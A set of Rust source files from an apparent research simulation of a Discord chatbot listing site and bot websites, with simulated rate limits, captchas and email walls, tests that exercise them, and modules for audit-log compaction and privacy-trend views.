        let invite = Locator::id("invite").find(&doc).unwrap();
        assert!(invite.attr("href").unwrap().contains("client_id=3"));
        assert_eq!(
            Locator::id("vote-count").find(&doc).unwrap().text_content(),
            "998"
        );
        assert_eq!(
            Locator::class("dev").find(&doc).unwrap().text_content(),
            "dev-3"
        );
        // No website/github on minimal listings.
        assert!(Locator::class("website").find(&doc).is_err());
    }

    #[test]
    fn unknown_bot_is_404() {
        let (_net, _site, mut client) = setup(SiteConfig::open(), 5);
        let resp = client.get(Url::https(LIST_HOST, "/bot/999")).unwrap();
        assert_eq!(resp.status, Status::NotFound);
    }

    #[test]
    fn rate_limit_fires_and_recovers() {
        let config = SiteConfig {
            rate_limit: Some((2, 1.0)),
            captcha_every: None,
            ..SiteConfig::open()
        };
        let (net, _site, mut client) = setup(config, 5);
        // Burst of 2 succeeds; third is throttled (impolite client, 1 attempt).
        client.get(Url::https(LIST_HOST, "/list")).unwrap();
        client.get(Url::https(LIST_HOST, "/list")).unwrap();
        let err = client.get(Url::https(LIST_HOST, "/list")).unwrap_err();
        assert!(matches!(err, NetError::RateLimited { .. }));
        // After waiting, requests flow again.
        net.clock().sleep(netsim::SimDuration::from_secs(2));
        assert!(client.get(Url::https(LIST_HOST, "/list")).is_ok());
    }

    #[test]
    fn captcha_wall_and_redeem_cycle() {
        let config = SiteConfig {
            captcha_every: Some(3),
            rate_limit: None,
            ..SiteConfig::open()
        };
        let (_net, _site, mut client) = setup(config, 5);
        for _ in 0..3 {
            assert!(client
                .get(Url::https(LIST_HOST, "/list"))
                .unwrap()
                .status
                .is_success());
        }
        // Credit exhausted → captcha page.
        let walled = client.get(Url::https(LIST_HOST, "/list")).unwrap();
        assert_eq!(walled.status, Status::Forbidden);
        let doc = parse_document(&walled.text()).unwrap();
        let captcha = Locator::id("captcha").find(&doc).unwrap();
        let id = captcha.attr("data-challenge-id").unwrap().to_string();
        let question = Locator::class("question")
            .find(&doc)
            .unwrap()
            .text_content();
        let answer = CaptchaBank::solve_question(&question).unwrap();
        // Redeem and retry with the pass.
        let token = client
            .post(
                Url::https(LIST_HOST, "/captcha/redeem"),
                format!("id={id}&answer={answer}"),
            )
            .unwrap()
            .text();
        let resp = client
            .get(Url::https(LIST_HOST, "/list").with_query("captcha_pass", &token))
            .unwrap();
        assert!(resp.status.is_success());
        // The pass is single-use: reusing it when credit runs out again fails.
        for _ in 0..2 {
            client.get(Url::https(LIST_HOST, "/list")).unwrap();
        }
        let reused = client
            .get(Url::https(LIST_HOST, "/list").with_query("captcha_pass", &token))
            .unwrap();
        assert_eq!(reused.status, Status::Forbidden);
    }

    #[test]
    fn email_wall_blocks_deep_pages_until_verified() {
        let config = SiteConfig {
            email_wall_after_page: Some(1),
            captcha_every: None,
            rate_limit: None,
            ..SiteConfig::open()
        };
        let (_net, _site, mut client) = setup(config, 200);
        assert!(client
            .get(Url::https(LIST_HOST, "/list").with_query("page", "1"))
            .unwrap()
            .status
            .is_success());
        let deep = client
            .get(Url::https(LIST_HOST, "/list").with_query("page", "2"))
            .unwrap();
        assert_eq!(deep.status, Status::Unauthorized);
        client
            .post(
                Url::https(LIST_HOST, "/verify-email"),
                "email=crawler@lab.example",
            )
            .unwrap();
        assert!(client
            .get(Url::https(LIST_HOST, "/list").with_query("page", "2"))
            .unwrap()
            .status
            .is_success());
    }

    #[test]
    fn wrong_captcha_answer_rejected() {
        let config = SiteConfig {
            captcha_every: Some(1),
            rate_limit: None,
            ..SiteConfig::open()
        };
        let (_net, _site, mut client) = setup(config, 5);
        client.get(Url::https(LIST_HOST, "/list")).unwrap();
        let walled = client.get(Url::https(LIST_HOST, "/list")).unwrap();
        let doc = parse_document(&walled.text()).unwrap();
        let id = Locator::id("captcha")
            .find(&doc)
            .unwrap()
            .attr("data-challenge-id")
            .unwrap()
            .to_string();
        let resp = client
            .post(
                Url::https(LIST_HOST, "/captcha/redeem"),
                format!("id={id}&answer=0"),
            )
            .unwrap();
        assert_eq!(resp.status, Status::Forbidden);
    }
}
