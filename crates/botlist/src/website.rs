//! Per-bot developer websites.
//!
//! "Discord chatbots tend to not have any visible privacy policies on
//! top.gg. This necessitates visiting the chatbot's website (if present)
//! for finding its privacy policy document" (§4.2). Each [`BotWebsite`] is
//! a small homepage that may or may not link a `/privacy` page, and that
//! page may itself be a valid document or a dead link.

use crate::site::content_etag;
use htmlsim::build::el;
use htmlsim::render::render_document;
use htmlsim::Document;
use netsim::http::{Request, Response, Status};
use netsim::{Network, Service, ServiceCtx};
use policy::PrivacyPolicy;

/// How a bot's website exposes (or fails to expose) its policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PolicyHosting {
    /// A `/privacy` link leading to the given document.
    Linked(PrivacyPolicy),
    /// A `/privacy` link that 404s (the 3 dead links of Table 2).
    DeadLink,
    /// No policy link anywhere on the site.
    None,
}

/// One developer website, mountable at a host of the caller's choosing.
#[derive(Debug, Clone)]
pub struct BotWebsite {
    /// The bot's name, for page copy.
    pub bot_name: String,
    /// Policy hosting behaviour.
    pub hosting: PolicyHosting,
}

impl BotWebsite {
    /// Build a website.
    pub fn new(bot_name: &str, hosting: PolicyHosting) -> BotWebsite {
        BotWebsite {
            bot_name: bot_name.to_string(),
            hosting,
        }
    }

    /// Mount at `host`.
    pub fn mount(self, net: &Network, host: &str) {
        net.mount(host, self);
    }

    fn homepage(&self) -> String {
        let mut body = el("body")
            .child(el("h1").id("name").text(self.bot_name.clone()))
            .child(
                el("p")
                    .class("pitch")
                    .text(format!("{} — the bot your server deserves.", self.bot_name)),
            );
        if !matches!(self.hosting, PolicyHosting::None) {
            body = body.child(
                el("a")
                    .id("privacy-link")
                    .attr("href", "/privacy")
                    .text("Privacy Policy"),
            );
        }
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(self.bot_name.clone())))
                .child(body)
                .build(),
        );
        render_document(&doc)
    }

    /// Homepage validator: name + whether a policy link is shown — the
    /// only two inputs the homepage render consumes.
    fn homepage_etag(&self) -> String {
        let linked = !matches!(self.hosting, PolicyHosting::None);
        content_etag(&[self.bot_name.as_bytes(), &[linked as u8]])
    }

    /// Privacy-page validator over the document's full content.
    fn privacy_etag(policy: &PrivacyPolicy) -> String {
        let mut parts: Vec<&[u8]> = vec![policy.title.as_bytes()];
        parts.extend(policy.sections.iter().map(|s| s.as_bytes()));
        content_etag(&parts)
    }

    fn privacy_page(policy: &PrivacyPolicy) -> String {
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(policy.title.clone())))
                .child(
                    el("body").child(
                        el("div").id("policy").children(
                            policy
                                .sections
                                .iter()
                                .map(|s| el("p").class("policy-text").text(s.clone())),
                        ),
                    ),
                )
                .build(),
        );
        render_document(&doc)
    }
}

impl Service for BotWebsite {
    fn handle(&mut self, req: &Request, _ctx: &mut ServiceCtx<'_>) -> Response {
        match req.url.path.as_str() {
            "/" => {
                let etag = self.homepage_etag();
                if req.header("if-none-match") == Some(etag.as_str()) {
                    return Response::not_modified(&etag);
                }
                Response::ok(self.homepage())
                    .with_header("content-type", "text/html")
                    .with_header("etag", &etag)
            }
            "/privacy" => match &self.hosting {
                PolicyHosting::Linked(policy) => {
                    let etag = Self::privacy_etag(policy);
                    if req.header("if-none-match") == Some(etag.as_str()) {
                        return Response::not_modified(&etag);
                    }
                    Response::ok(Self::privacy_page(policy))
                        .with_header("content-type", "text/html")
                        .with_header("etag", &etag)
                }
                PolicyHosting::DeadLink => Response::status(Status::NotFound),
                PolicyHosting::None => Response::status(Status::NotFound),
            },
            _ => Response::status(Status::NotFound),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::{parse_document, Locator};
    use netsim::client::{ClientConfig, HttpClient};
    use netsim::http::Url;

    fn fetch(client: &mut HttpClient, host: &str, path: &str) -> Response {
        client.get(Url::https(host, path)).unwrap()
    }

    #[test]
    fn homepage_links_policy_when_hosted() {
        let net = Network::new(1);
        let policy = policy::corpus::generic_boilerplate();
        BotWebsite::new("FunBot", PolicyHosting::Linked(policy.clone())).mount(&net, "funbot.site");
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let home = fetch(&mut client, "funbot.site", "/");
        let doc = parse_document(&home.text()).unwrap();
        let link = Locator::id("privacy-link").find(&doc).unwrap();
        assert_eq!(link.attr("href"), Some("/privacy"));
        let page = fetch(&mut client, "funbot.site", "/privacy");
        assert!(page.status.is_success());
        let pdoc = parse_document(&page.text()).unwrap();
        let texts = Locator::class("policy-text").find_all(&pdoc).unwrap();
        assert_eq!(texts.len(), policy.sections.len());
    }

    #[test]
    fn dead_policy_link_still_advertised_but_404s() {
        let net = Network::new(1);
        BotWebsite::new("GhostBot", PolicyHosting::DeadLink).mount(&net, "ghost.site");
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let home = fetch(&mut client, "ghost.site", "/");
        let doc = parse_document(&home.text()).unwrap();
        assert!(
            Locator::id("privacy-link").find(&doc).is_ok(),
            "link is shown"
        );
        assert_eq!(
            fetch(&mut client, "ghost.site", "/privacy").status,
            Status::NotFound
        );
    }

    #[test]
    fn no_policy_site_has_no_link() {
        let net = Network::new(1);
        BotWebsite::new("BareBot", PolicyHosting::None).mount(&net, "bare.site");
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let home = fetch(&mut client, "bare.site", "/");
        let doc = parse_document(&home.text()).unwrap();
        assert!(Locator::id("privacy-link").find(&doc).is_err());
    }
}
