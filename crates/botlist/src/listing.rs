//! The listing data model.

use serde::{Deserialize, Serialize};

/// One chatbot's listing entry — the attributes §4.2 extracts: "the
/// chatbot's ID, name, URL, tags, permissions, guild count, description and
/// GitHub link".
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BotListing {
    /// The application client ID.
    pub id: u64,
    /// Display name.
    pub name: String,
    /// Category tags (gaming, fun, social, music, meme, moderation, …).
    pub tags: Vec<String>,
    /// Short description shown on the card and detail page.
    pub description: String,
    /// The install link. May be a valid OAuth URL, malformed, or pointing
    /// at a dead/slow host — the paper's 26% "invalid permissions" bucket.
    pub invite_link: String,
    /// Guild count badge.
    pub guild_count: u64,
    /// Vote count (the list is sorted by this).
    pub vote_count: u64,
    /// The developer's website, if listed.
    pub website: Option<String>,
    /// GitHub link, if listed.
    pub github: Option<String>,
    /// Developer handles (for the Table 1 developer statistics).
    pub developers: Vec<String>,
    /// Sample commands shown on the listing (`!play`, `!kick`, …) — one of
    /// the attributes §3's data collection extracts.
    pub commands: Vec<String>,
}

impl BotListing {
    /// Minimal listing for tests.
    pub fn minimal(id: u64, name: &str, invite_link: &str, vote_count: u64) -> BotListing {
        BotListing {
            id,
            name: name.to_string(),
            tags: Vec::new(),
            description: String::new(),
            invite_link: invite_link.to_string(),
            guild_count: 0,
            vote_count,
            website: None,
            github: None,
            developers: vec![format!("dev-{id}")],
            commands: Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn minimal_builder() {
        let l = BotListing::minimal(
            7,
            "FunBot",
            "https://discord.sim/oauth2/authorize?client_id=7&scope=bot",
            42,
        );
        assert_eq!(l.id, 7);
        assert_eq!(l.vote_count, 42);
        assert_eq!(l.developers, vec!["dev-7"]);
        assert!(l.website.is_none());
    }
}
