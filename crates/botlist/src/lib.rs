//! # botlist — the chatbot repository website ("top.gg" analogue)
//!
//! "Currently, there is no official marketplace for Discord chatbots, and
//! they are primarily found at www.top.gg" (§4.1). This crate is that site:
//! a paginated "top chatbot" list plus per-bot detail pages carrying exactly
//! the attributes the paper's crawler extracts — ID, name, URL, tags,
//! permissions (via the OAuth invite link), guild count, description, and
//! GitHub link.
//!
//! It also implements the anti-scraping defenses the paper fought (§3):
//!
//! * request-rate throttling (HTTP 429 with `retry-after`);
//! * captcha interstitials after a burst of requests ([`captcha`]);
//! * an email-verification wall for deep list pages;
//! * *varying page structures* — three deterministic page-layout variants,
//!   so a scraper keyed to one selector misses elements on others.
//!
//! [`website`] additionally provides each bot's own homepage (where privacy
//! policies live, when they exist at all).

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod captcha;
pub mod listing;
pub mod site;
pub mod website;

pub use captcha::{CaptchaBank, Challenge};
pub use listing::BotListing;
pub use site::{BotListSite, SiteConfig, LIST_HOST};
pub use website::BotWebsite;
