//! Pagination properties of the listing site: every listing appears on
//! exactly one page, in global vote order, across all three layout
//! variants.

use botlist::{BotListSite, BotListing, SiteConfig, LIST_HOST};
use htmlsim::{parse_document, Locator};
use netsim::client::{ClientConfig, HttpClient};
use netsim::http::Url;
use netsim::Network;
use proptest::prelude::*;

fn listing(id: u64, votes: u64) -> BotListing {
    BotListing::minimal(id, &format!("B{id}"), "https://x.sim/", votes)
}

/// Extract bot hrefs from a page regardless of variant.
fn hrefs(page: &str) -> Vec<String> {
    let doc = parse_document(page).expect("site emits valid html");
    for locator in [
        Locator::css("div.bot-card a.bot-link"),
        Locator::css("tr.bot-row a.details"),
        Locator::css("li.entry a[data-kind=bot]"),
    ] {
        let hits = locator.find_all(&doc).expect("valid selectors");
        if !hits.is_empty() {
            return hits
                .iter()
                .filter_map(|n| n.attr("href").map(str::to_string))
                .collect();
        }
    }
    Vec::new()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]
    #[test]
    fn every_listing_on_exactly_one_page(
        n in 1usize..120,
        page_size in 1usize..40,
        vote_seed in any::<u64>(),
    ) {
        let listings: Vec<BotListing> = (0..n as u64)
            .map(|i| listing(i + 1, (vote_seed.wrapping_mul(i + 7)) % 10_000))
            .collect();
        let net = Network::new(13);
        let site = BotListSite::new(
            listings,
            SiteConfig { page_size, ..SiteConfig::open() },
        );
        site.mount(&net);
        let mut client = HttpClient::new(net, ClientConfig::impolite("prop"));

        let mut seen: Vec<String> = Vec::new();
        let mut votes_in_order: Vec<u64> = Vec::new();
        for page in 0..site.total_pages() {
            let resp = client
                .get(Url::https(LIST_HOST, "/list").with_query("page", &page.to_string()))
                .expect("open site");
            let page_hrefs = hrefs(&resp.text());
            prop_assert!(page_hrefs.len() <= page_size);
            for href in &page_hrefs {
                // Fetch the detail page to read its vote count, proving the
                // href resolves.
                let detail = client
                    .get(Url::https(LIST_HOST, href))
                    .expect("detail reachable");
                prop_assert!(detail.status.is_success(), "{href}");
                let doc = parse_document(&detail.text()).expect("valid");
                let votes = Locator::id("vote-count")
                    .find(&doc)
                    .map(|e| e.text_content().parse::<u64>().expect("numeric"))
                    .or_else(|_| {
                        Locator::css("section.app-profile")
                            .find(&doc)
                            .map(|e| e.attr("data-votes").expect("alt layout").parse().expect("numeric"))
                    })
                    .expect("either layout");
                votes_in_order.push(votes);
            }
            seen.extend(page_hrefs);
        }
        // Exactly one page per listing.
        let mut dedup = seen.clone();
        dedup.sort();
        dedup.dedup();
        prop_assert_eq!(dedup.len(), seen.len(), "no duplicates across pages");
        prop_assert_eq!(seen.len(), n, "every listing reachable");
        // Global vote order is non-increasing.
        for w in votes_in_order.windows(2) {
            prop_assert!(w[0] >= w[1], "vote order violated: {:?}", w);
        }
    }
}
