//! Generational artifact-pack compaction driven by the epoch chain.
//!
//! A tenant's pack grows monotonically: every epoch appends its analysis
//! artifacts, honeypot snapshots, and (with the oplog) report/delta blobs,
//! and nothing ever leaves. The chain knows exactly which keys the last K
//! epochs reference, so compaction is a pure policy decision here plus the
//! already-crash-safe [`ArtifactCache::compact`] rebuild: the keep-set is
//! computed from [`EpochChain::live_keys`], the pack is rewritten in one
//! atomic replace, and a crash at any point leaves either the old or the
//! new generation fully intact (the fault test in this module pins both
//! arms). Determinism is pinned too: the rebuilt pack is a sorted fold of
//! the kept blobs, so identical chains + packs compact to identical bytes.

use std::io;
use std::sync::Arc;

use obs::Obs;
use store::{ArtifactCache, Backend, PACK_FILE};

use crate::chain::EpochChain;

/// What one generational compaction did, in counters the caller can log
/// or assert on (`BENCH_oplog.json` records these per tenant).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CompactionOutcome {
    /// Epochs whose references were kept live.
    pub kept_epochs: usize,
    /// Blobs surviving the rewrite.
    pub live_blobs: usize,
    /// Blobs dropped by the rewrite.
    pub dropped_blobs: usize,
    /// Pack size before, in bytes.
    pub pack_bytes_before: u64,
    /// Pack size after, in bytes.
    pub pack_bytes_after: u64,
}

impl CompactionOutcome {
    /// Bytes the rewrite gave back (zero when nothing was dropped).
    pub fn reclaimed_bytes(&self) -> u64 {
        self.pack_bytes_before.saturating_sub(self.pack_bytes_after)
    }
}

/// Rewrite the pack in `backend`, keeping only blobs referenced by the
/// last `keep_last` epochs of `chain` (the head generation is always
/// kept). Emits `store.compaction.runs` / `.dropped` / `.reclaimed_bytes`
/// counters on `obs`.
///
/// Must not run concurrently with an audit of the same tenant: the
/// keep-set is computed from the chain, so blobs written by an in-flight,
/// not-yet-committed epoch would be dropped.
pub fn compact_generations(
    backend: &Arc<dyn Backend>,
    chain: &EpochChain,
    keep_last: usize,
    obs: &Obs,
) -> io::Result<CompactionOutcome> {
    let pack_bytes = |backend: &Arc<dyn Backend>| -> io::Result<u64> {
        Ok(backend
            .read(PACK_FILE)?
            .map(|bytes| bytes.len() as u64)
            .unwrap_or(0))
    };
    let pack_bytes_before = pack_bytes(backend)?;
    let live = chain.live_keys(keep_last);
    let cache = ArtifactCache::open(Arc::clone(backend), PACK_FILE)?;
    let dropped_blobs = cache.compact(&live)?;
    let snapshot = cache.snapshot();
    let pack_bytes_after = pack_bytes(backend)?;
    let outcome = CompactionOutcome {
        kept_epochs: keep_last.max(1).min(chain.len()),
        live_blobs: snapshot.entries,
        dropped_blobs,
        pack_bytes_before,
        pack_bytes_after,
    };
    obs.counter("store.compaction.runs").incr();
    obs.counter("store.compaction.dropped")
        .add(dropped_blobs as u64);
    obs.counter("store.compaction.reclaimed_bytes")
        .add(outcome.reclaimed_bytes());
    Ok(outcome)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hexhash;
    use crate::record::tests::sample_record;
    use crate::record::ZERO_HASH;
    use std::sync::Mutex;
    use store::{ContentHash, MemBackend};

    /// How the wrapper backend sabotages the pack's atomic replace.
    #[derive(Clone, Copy, PartialEq)]
    enum Sabotage {
        /// Fail without touching the file: the old generation survives.
        FailBeforeApply,
        /// Apply the replace, then report failure: the new generation is
        /// already durable (the crash "happened" after the rename).
        FailAfterApply,
    }

    /// A backend that injects exactly one crash into the pack rewrite.
    struct CrashyBackend {
        inner: MemBackend,
        armed: Mutex<Option<Sabotage>>,
    }

    impl Backend for CrashyBackend {
        fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>> {
            self.inner.read(name)
        }
        fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
            if name == PACK_FILE {
                if let Some(mode) = self.armed.lock().expect("sabotage lock").take() {
                    if mode == Sabotage::FailAfterApply {
                        self.inner.write_atomic(name, bytes)?;
                    }
                    return Err(io::Error::other("injected crash mid-compaction"));
                }
            }
            self.inner.write_atomic(name, bytes)
        }
        fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
            self.inner.append(name, bytes)
        }
        fn remove(&self, name: &str) -> io::Result<()> {
            self.inner.remove(name)
        }
    }

    /// A 4-epoch workspace: pack blobs for every epoch's keys plus two
    /// stale blobs nothing references, and a chain referencing them.
    fn workspace(backend: &Arc<dyn Backend>) -> EpochChain {
        let cache = ArtifactCache::open(Arc::clone(backend), PACK_FILE).unwrap();
        let mut chain = EpochChain::open(Arc::clone(backend)).unwrap();
        for epoch in 0..4u32 {
            let record = chain.append(sample_record(epoch, ZERO_HASH)).unwrap();
            for key in record.live_keys() {
                let blob = format!("blob-for-{}", hexhash::to_hex(&key));
                cache.put(key, blob.as_bytes()).unwrap();
            }
        }
        for stale in ["orphan-1", "orphan-2"] {
            cache
                .put(ContentHash::of(stale.as_bytes()), &[0xaa; 256])
                .unwrap();
        }
        chain
    }

    #[test]
    fn compaction_drops_old_generations_and_counts_bytes() {
        let backend: Arc<dyn Backend> = Arc::new(MemBackend::new());
        let chain = workspace(&backend);
        let obs = Obs::disabled();
        let outcome = compact_generations(&backend, &chain, 2, &obs).unwrap();
        assert_eq!(outcome.kept_epochs, 2);
        assert!(outcome.dropped_blobs >= 2, "orphans at least must go");
        assert!(outcome.reclaimed_bytes() > 0);
        assert_eq!(obs.counter_value("store.compaction.runs"), 1);
        assert_eq!(
            obs.counter_value("store.compaction.reclaimed_bytes"),
            outcome.reclaimed_bytes()
        );
        // Every key of the last two epochs survived; epoch 0's and 1's
        // unshared keys did not.
        let cache = ArtifactCache::open(Arc::clone(&backend), PACK_FILE).unwrap();
        for key in chain.live_keys(2) {
            assert!(cache.peek(&key).is_some(), "live key {key} must survive");
        }
        assert!(cache.peek(&ContentHash::of(b"orphan-1")).is_none());
    }

    #[test]
    fn compaction_output_is_deterministic() {
        let run = || {
            let backend: Arc<dyn Backend> = Arc::new(MemBackend::new());
            let chain = workspace(&backend);
            compact_generations(&backend, &chain, 2, &Obs::disabled()).unwrap();
            backend.read(PACK_FILE).unwrap().unwrap()
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn crash_mid_compaction_leaves_old_or_new_generation_intact() {
        // The uncrashed control: what the new generation's bytes must be.
        let control: Arc<dyn Backend> = Arc::new(MemBackend::new());
        let control_chain = workspace(&control);
        compact_generations(&control, &control_chain, 2, &Obs::disabled()).unwrap();
        let new_generation = control.read(PACK_FILE).unwrap().unwrap();

        for sabotage in [Sabotage::FailBeforeApply, Sabotage::FailAfterApply] {
            let crashy = Arc::new(CrashyBackend {
                inner: MemBackend::new(),
                armed: Mutex::new(None),
            });
            let backend: Arc<dyn Backend> = Arc::clone(&crashy) as Arc<dyn Backend>;
            let chain = workspace(&backend);
            let old_generation = backend.read(PACK_FILE).unwrap().unwrap();
            *crashy.armed.lock().unwrap() = Some(sabotage);
            let err = compact_generations(&backend, &chain, 2, &Obs::disabled()).unwrap_err();
            assert!(err.to_string().contains("injected crash"));
            // Atomic-replace contract: the pack is exactly one whole
            // generation, never a mix or a torn file.
            let after_crash = backend.read(PACK_FILE).unwrap().unwrap();
            match sabotage {
                Sabotage::FailBeforeApply => assert_eq!(after_crash, old_generation),
                Sabotage::FailAfterApply => assert_eq!(after_crash, new_generation),
            }
            // Either way the workspace is fully usable: reopening replays
            // a valid pack and retrying converges on the new generation.
            let cache = ArtifactCache::open(Arc::clone(&backend), PACK_FILE).unwrap();
            for key in chain.live_keys(2) {
                assert!(cache.peek(&key).is_some());
            }
            drop(cache);
            compact_generations(&backend, &chain, 2, &Obs::disabled()).unwrap();
            assert_eq!(backend.read(PACK_FILE).unwrap().unwrap(), new_generation);
        }
    }
}
