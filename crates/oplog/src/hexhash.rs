//! Hex rendering of [`ContentHash`] for serialized epoch records.
//!
//! `store` is intentionally dependency-free, so [`ContentHash`] has no
//! serde impls. Epoch records carry hashes as 32-char lowercase hex
//! strings instead; these two helpers are the only conversion points, so
//! the wire format is pinned in one place.

use store::ContentHash;

/// Render a hash as 32 lowercase hex characters (the `Display` form).
pub fn to_hex(hash: &ContentHash) -> String {
    format!("{hash}")
}

/// Parse the 32-char lowercase hex form back into a hash.
///
/// Returns `None` for any other length, uppercase digits, or non-hex
/// characters — a chain record that fails to parse is treated as damage,
/// never guessed at.
pub fn parse_hex(text: &str) -> Option<ContentHash> {
    if text.len() != 32 || !text.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')) {
        return None;
    }
    let mut bytes = [0u8; 16];
    for (i, chunk) in text.as_bytes().chunks(2).enumerate() {
        let pair = std::str::from_utf8(chunk).ok()?;
        bytes[i] = u8::from_str_radix(pair, 16).ok()?;
    }
    Some(ContentHash(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrips_every_byte_pattern() {
        for seed in [0u8, 1, 0x7f, 0xa5, 0xff] {
            let mut bytes = [0u8; 16];
            for (i, b) in bytes.iter_mut().enumerate() {
                *b = seed.wrapping_add(i as u8).wrapping_mul(31);
            }
            let hash = ContentHash(bytes);
            let hex = to_hex(&hash);
            assert_eq!(hex.len(), 32);
            assert_eq!(parse_hex(&hex), Some(hash));
        }
    }

    #[test]
    fn rejects_malformed_text() {
        assert_eq!(parse_hex(""), None);
        assert_eq!(parse_hex("00112233445566778899aabbccddeef"), None); // 31 chars
        assert_eq!(parse_hex("00112233445566778899aabbccddeeff0"), None); // 33 chars
        assert_eq!(parse_hex("00112233445566778899AABBCCDDEEFF"), None); // uppercase
        assert_eq!(parse_hex("zz112233445566778899aabbccddeeff"), None); // non-hex
    }
}
