//! Materialized trend views over epoch chains.
//!
//! Every view here is computed from [`EpochRecord`]s alone — the small
//! JSON frames the chain replays on open — so longitudinal questions are
//! answered with **zero audit replays** and zero report-blob reads. The
//! root `oplog_determinism` test pins that property by asserting the
//! pipeline's `analysis.*` counters stay flat across trend queries.

use std::collections::BTreeMap;

use serde::Serialize;

use crate::record::EpochRecord;

/// One bot's accumulated traceability flips across a chain.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct BotFlips {
    /// The bot's listing name.
    pub bot: String,
    /// How many epochs changed its verdict.
    pub flips: u32,
    /// The verdict path, e.g. `["traceable", "untraceable", "traceable"]`.
    pub path: Vec<String>,
}

/// One bot's cumulative permission churn since epoch 0.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CreepEntry {
    /// The bot's listing name.
    pub bot: String,
    /// Total permissions gained across the chain.
    pub added: u64,
    /// Total permissions dropped across the chain.
    pub removed: u64,
}

/// Fleet- or tenant-level cumulative permission creep.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
pub struct PermissionCreep {
    /// Permissions gained, summed over every bot and epoch.
    pub total_added: u64,
    /// Permissions dropped, summed over every bot and epoch.
    pub total_removed: u64,
    /// Per-bot breakdown, sorted by bot name.
    pub by_bot: Vec<CreepEntry>,
}

/// One epoch's drift counters — a point on a drift curve.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct DriftPoint {
    /// The epoch number.
    pub epoch: u32,
    /// Bots whose canonical form changed vs the previous epoch.
    pub drifted: u32,
    /// Bots byte-identical to the previous epoch.
    pub unchanged: u32,
    /// Bots new this epoch.
    pub appeared: u32,
    /// Bots gone this epoch.
    pub disappeared: u32,
    /// Detections that appeared this epoch.
    pub new_detections: u32,
    /// Detections that disappeared this epoch.
    pub resolved_detections: u32,
}

/// One platform's aggregated drift curve across a fleet of tenants.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PlatformDrift {
    /// The platform's pinned lowercase name.
    pub platform: String,
    /// Tenants contributing to the curve.
    pub tenants: u32,
    /// Per-epoch counters summed across those tenants.
    pub points: Vec<DriftPoint>,
}

#[derive(Serialize)]
struct TrendDump {
    epochs: Vec<u32>,
    flipped_twice: Vec<BotFlips>,
    creep: PermissionCreep,
    curve: Vec<DriftPoint>,
}

/// Materialized trend views over one tenant's chain.
///
/// Holds a copy of the records; all queries are pure functions of them.
#[derive(Debug, Clone)]
pub struct TrendQuery {
    records: Vec<EpochRecord>,
}

impl TrendQuery {
    /// Build views over `records` (genesis first, as
    /// [`EpochChain::records`](crate::chain::EpochChain::records) yields).
    pub fn from_records(records: &[EpochRecord]) -> TrendQuery {
        TrendQuery {
            records: records.to_vec(),
        }
    }

    /// The epochs covered, genesis first.
    pub fn epochs(&self) -> Vec<u32> {
        self.records.iter().map(|r| r.epoch).collect()
    }

    /// Bots whose traceability verdict changed in at least `min_flips`
    /// epochs, sorted by bot name. `flipped_at_least(2)` is the paper's
    /// "bots that flipped traceability ≥ 2×" question.
    pub fn flipped_at_least(&self, min_flips: u32) -> Vec<BotFlips> {
        let mut by_bot: BTreeMap<&str, BotFlips> = BTreeMap::new();
        for record in &self.records {
            for flip in &record.trend.flips {
                let entry = by_bot.entry(&flip.bot).or_insert_with(|| BotFlips {
                    bot: flip.bot.clone(),
                    flips: 0,
                    path: vec![flip.from.clone()],
                });
                entry.flips += 1;
                entry.path.push(flip.to.clone());
            }
        }
        by_bot
            .into_values()
            .filter(|b| b.flips >= min_flips)
            .collect()
    }

    /// Cumulative permission creep since epoch 0, per bot and in total.
    pub fn permission_creep(&self) -> PermissionCreep {
        let mut by_bot: BTreeMap<&str, (u64, u64)> = BTreeMap::new();
        for record in &self.records {
            for creep in &record.trend.permissions {
                let entry = by_bot.entry(&creep.bot).or_insert((0, 0));
                entry.0 += creep.added as u64;
                entry.1 += creep.removed as u64;
            }
        }
        let mut out = PermissionCreep::default();
        for (bot, (added, removed)) in by_bot {
            out.total_added += added;
            out.total_removed += removed;
            out.by_bot.push(CreepEntry {
                bot: bot.to_string(),
                added,
                removed,
            });
        }
        out
    }

    /// The tenant's drift curve: one point per committed epoch.
    pub fn drift_curve(&self) -> Vec<DriftPoint> {
        self.records
            .iter()
            .map(|r| DriftPoint {
                epoch: r.epoch,
                drifted: r.trend.drifted,
                unchanged: r.trend.unchanged,
                appeared: r.trend.appeared,
                disappeared: r.trend.disappeared,
                new_detections: r.trend.new_detections,
                resolved_detections: r.trend.resolved_detections,
            })
            .collect()
    }

    /// A canonical, pretty-printed dump of every view — the byte-stable
    /// form the determinism tests compare across worker counts and across
    /// compaction (compaction rewrites the pack, never the chain, so this
    /// dump must not move by a single byte).
    pub fn canonical_json(&self) -> String {
        serde_json::to_string_pretty(&TrendDump {
            epochs: self.epochs(),
            flipped_twice: self.flipped_at_least(2),
            creep: self.permission_creep(),
            curve: self.drift_curve(),
        })
        .expect("trend dumps always serialize")
    }
}

/// Fleet-wide drift curves: per-platform, per-epoch counters summed across
/// tenants. Input is `(tenant, records)` pairs; ordering of the output is
/// pinned (platforms sorted by name, epochs ascending) so dumps are
/// byte-stable regardless of tenant iteration order.
